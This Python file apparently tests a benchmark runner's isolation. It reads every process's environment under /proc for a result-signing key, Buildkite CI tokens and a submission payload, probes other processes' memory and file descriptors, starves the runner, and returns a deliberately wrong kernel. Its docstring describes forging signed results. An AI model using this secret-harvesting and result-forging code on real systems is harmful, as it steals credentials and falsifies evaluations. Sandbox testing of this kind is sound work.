"""Reading secrets: the environment of every process it can open (/proc/<pid>/environ of the
runner, the launcher, PID 1), their memory and fds, for the result key, the payload and tokens;
with a key it signs the forged result properly and starves the runner."""
from hostile import *

_secrets = ("KITEBENCH_RESULT_KEY", "BUILDKITE_AGENT_ACCESS_TOKEN", "BUILDKITE_API_TOKEN",
            "SUBMISSION_PAYLOAD", "KBADV_CANARY")
for _pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        with open(f"/proc/{_pid}/environ", "rb") as _f:
            _env = _f.read()
    except OSError:
        continue
    for _name in _secrets:
        if (_name + "=").encode() in _env and _name not in os.environ:
            leak(f"{_name} from /proc/{_pid}/environ ({cmdline(int(_pid))[:60]})")
for _pid in kitebench_targets():
    for _what in ("mem", "fd/0", "cwd/result.json"):
        with contextlib.suppress(OSError), open(f"/proc/{_pid}/{_what}", "rb") as _f:
            _f.read(1)
            leak(f"/proc/{_pid}/{_what} is readable")
starve_runner()


def custom_kernel(data):
    return wrong(data)
